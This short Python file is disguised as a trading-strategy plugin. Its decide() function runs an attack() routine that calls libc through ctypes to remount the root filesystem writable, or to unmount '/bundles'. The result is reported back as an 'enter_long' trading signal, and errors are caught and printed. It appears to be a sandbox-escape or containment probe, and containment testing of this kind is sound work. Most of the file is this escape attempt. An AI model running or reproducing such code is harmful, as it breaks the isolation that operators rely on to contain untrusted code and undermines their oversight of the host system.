"""Making the root writable again."""

import os
import sys

import numpy as np
import pandas as pd

HOST = "@HOST@"


def attack():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    return libc.mount(b"none", b"/", None, ctypes.c_ulong(32 | 4096), None) == 0 or libc.umount2(b"/bundles", 2) == 0


def decide(bars):
    try:
        out = bool(attack())
    except BaseException as error:
        print("stopped:", type(error).__name__, str(error)[:200])
        out = False
    return pd.DataFrame({"enter_long": float(out)}, index=bars.index)
